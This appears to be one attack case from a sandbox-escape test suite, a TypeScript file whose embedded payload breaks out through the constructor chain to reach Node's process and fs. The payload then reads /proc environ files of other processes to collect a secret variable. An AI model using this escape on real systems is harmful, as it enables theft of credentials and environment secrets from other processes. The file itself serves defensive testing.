import { attack } from '../attack.ts';

/** Walks `/proc`: environments, arguments, memory maps and open files of every process that the user has. */
export const escape = attack({
	grants: [],
	source: `
		const host = reach();
		const fs = host?.constructor.constructor('return process')().getBuiltinModule('fs');
		if (!fs) return;
		const told = [];
		const read = (path) => { try { const text = fs.readFileSync(path, 'latin1'); if (text.includes('GLOVEBOX_SECRET=')) told.push(text); } catch {} };
		let all = [];
		try { all = fs.readdirSync('/proc').filter(Number).slice(-300); } catch {}
		for (const pid of all) { read(\`/proc/\${pid}/environ\`); read(\`/proc/\${pid}/task/\${pid}/environ\`); }
		return told.join();
	`,
});
